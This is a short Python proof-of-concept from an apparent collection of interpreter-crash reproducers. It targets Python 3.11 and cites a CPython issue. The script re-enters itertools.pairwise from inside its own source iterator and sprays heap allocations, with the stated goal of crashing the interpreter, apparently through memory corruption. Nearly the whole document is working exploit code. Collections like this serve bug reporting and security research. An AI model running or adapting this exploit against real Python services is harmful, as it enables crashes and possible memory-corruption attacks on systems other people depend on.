# technique: the iterator behind itertools.pairwise goes on in the same pairwise
# goal: crash
# python: 3.11
# mended: later releases
# source: python/cpython#109786
import itertools


class Iterator:
    def __iter__(self):
        return self

    def __next__(self):
        global n
        n += 1
        if n in (2, 3):
            for i in range(3):
                next(pairs, None)
            junk.extend(bytes(b'A' * n) for n in range(15, 200, 16)
                        for i in range(200))
        if n > 12:
            raise StopIteration
        return [n]


junk = []
for i in range(50):
    n = 0
    pairs = itertools.pairwise(Iterator())
    for a, b in pairs:
        a[0] + b[0]
